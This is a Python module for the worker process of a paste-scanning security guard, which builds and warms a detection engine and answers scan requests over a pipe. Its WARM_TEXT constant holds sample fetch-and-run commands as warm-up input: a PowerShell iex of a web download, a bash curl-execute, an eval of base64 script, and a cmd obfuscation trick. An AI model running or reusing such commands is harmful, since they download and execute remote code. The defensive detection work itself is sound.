"""The analysis process: the engine, with its native grammars, in a process of its own.

tree-sitter and RE2 are C code reading attacker text; a crash in one of them (tree-sitter-bash
segfaults about once in 50,000-100,000 fuzzed parses) must cost one reading, not the guard.
The guard's supervisor (detection/supervisor.py) starts this process, sends it texts and
restarts it when it dies; `scan --jsonl` runs a few of them (detection/pool.py).

The process builds its engine from a `WorkerSpec`, reads one text once to warm the grammars,
says it is ready, then answers one request at a time (wire.py) until the pipe closes: when
the guard exits, however it exits, the next read here ends in EOF and the process ends too.
What only rarer texts need (RE2 prefilters for long or non-ASCII texts) is made meanwhile on
a thread of its own (`serve`).
"""

from __future__ import annotations

import contextlib
import logging
import os
import signal
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, NoReturn

from app.detection.clock import DEFAULT_BUDGET_MS
from app.detection.model import Context, PasteTarget
from app.detection.trust import TrustList
from app.detection.wire import decode_request, encode_reply

if TYPE_CHECKING:  # `scan --jsonl` imports this module, and on Linux needs no multiprocessing
    from multiprocessing.connection import Connection

    from app.detection.engine import Engine

log = logging.getLogger(__name__)

READY = b"ready"  # the first frame: the engine is built and warm
QUIET = 0.5  # seconds without a request before a step of the warm-up left (answer) is taken
_DONE = object()
# One text each interpreter reads (PowerShell, a POSIX shell, JavaScript, cmd): the first
# real reading then pays no first-use cost.
WARM_TEXT = (
    "powershell -c \"iex ((New-Object Net.WebClient).DownloadString('https://example.invalid/a'))\""
    '\nbash -c "$(curl -fsSL https://example.invalid/b)"'
    "\n<script>eval(atob('YWxlcnQoMSk='))</script>"
    '\ncmd /c "set x=ec&&call %x%ho hi"'
)


@dataclass(frozen=True)
class WorkerSpec:
    """What the process builds its engine from (sent once, at start, by the parent)."""

    rule_paths: tuple[Path, ...] | None = None
    trust: TrustList | None = None
    strict: bool = False
    budget_ms: float = DEFAULT_BUDGET_MS

    def engine(self, *, interpreters: bool = True) -> Engine:
        # imported here: the guard names a spec (to start its analysis process) long before
        # it needs an engine of its own, and the engine's import is ~0.3 s of CPU before ready
        from app.detection.engine import Engine

        return Engine(
            rule_paths=list(self.rule_paths) if self.rule_paths else None,
            trust=self.trust,
            budget_ms=self.budget_ms,
            strict=self.strict,
            interpreters=interpreters,
        )


def warm(engine: Engine) -> None:
    """All of the warm-up at once (bench.hostile builds its engine so)."""
    for _step in warm_first(engine):
        pass


def warm_first(engine: Engine) -> Iterator[None]:
    """What the process makes before it says ready, so that a text is then read at full
    speed: the grammars and what an ASCII text needs (the read of WARM_TEXT), the scans of
    long texts, the scam claims' patterns, and what a text outside ASCII needs (the first
    step of the rules' preparation). The rest of that preparation is returned, to be made a
    step at a time while no text waits (`answer`): the RE2 prefilters of chunks over 8 KiB,
    the confirmations of Hyperscan's reports and the rules without Hyperscan for the texts
    it would misread (rules.py), ~0.65 s of CPU. Each is made off the reading's clock when a
    text needs it first, so the verdicts are the same whether it is made yet or not."""
    from app.detection import windows
    from app.detection.scamsentence import claim_languages

    engine.read(WARM_TEXT, [Context(), Context(target=PasteTarget.TERMINAL)])
    windows.prepare()  # the scans of texts over 64 K characters, compiled when first needed
    claim_languages()  # ... and the scam claims' patterns in thirteen languages
    steps = engine.rules.prepare_steps()
    next(steps, None)  # ... and what a text outside ASCII needs (~0.1 s)
    return steps


def quiet() -> None:
    """Nothing a library prints can reach the guard's terminal twice or mix into the pipe;
    Ctrl+C in the guard's terminal is the guard's to handle (this process ends on EOF)."""
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    with contextlib.suppress(OSError):  # no standard error (a windowed program): leave it
        os.dup2(2, 1)
    if sys.stderr is not None:
        sys.stdout = sys.stderr
    if not logging.getLogger().handlers:
        logging.basicConfig(level=logging.WARNING, format="analysis process: %(message)s")


def serve(conn: Connection, spec: WorkerSpec) -> NoReturn:
    """The process's whole life: build, warm, answer until the pipe closes, then leave.

    The guard is ready when this process is (its `status`). The part of the warm-up that
    only rarer texts need is made after ready, while no text waits (`answer`): it was ~0.65 s
    of the ~1.3 s from this process's start to ready, which the guard's start waited for."""
    quiet()
    engine = spec.engine()
    later = warm_first(engine)
    answer(conn, engine, later)
    leave()


def _step(later: Iterator[None]) -> bool:
    """Take one step of the warm-up left; False when none is left (or it failed: a text
    that needs what it makes makes it then, and says why it cannot)."""
    try:
        return next(later, _DONE) is not _DONE
    except Exception:
        log.exception("the warm-up after ready failed")
        return False


def leave() -> NoReturn:
    """End this process at once. It keeps no file and no state, and the guard waits for it when
    it stops: the interpreter's teardown, which only freed the rules, grammars and caches one
    object at a time, was ~0.2 s of the two seconds the guard has to stop (docs/deployment.md)."""
    logging.shutdown()
    for stream in (sys.stdout, sys.stderr):
        with contextlib.suppress(OSError, ValueError, AttributeError):  # closed or missing
            stream.flush()
    os._exit(0)


def answer(conn: Connection, engine: Engine, later: Iterator[None] | None = None) -> None:
    """Say ready, then read each request and send its verdicts back, until EOF.

    `later`'s steps are taken when no request has come for QUIET seconds, one step at a time
    (each at most ~0.25 s): one thread, so nothing here races with a reading, and a request
    that comes during a step waits for that step alone (a burst of copies takes none)."""
    conn.send_bytes(READY)
    pending = later is not None
    while True:
        try:
            while pending and not conn.poll(QUIET):
                assert later is not None
                pending = _step(later)
            frame = conn.recv_bytes()
        except (EOFError, OSError):
            return
        text, contexts = decode_request(frame)
        conn.send_bytes(encode_reply(text, engine.read(text, contexts)))
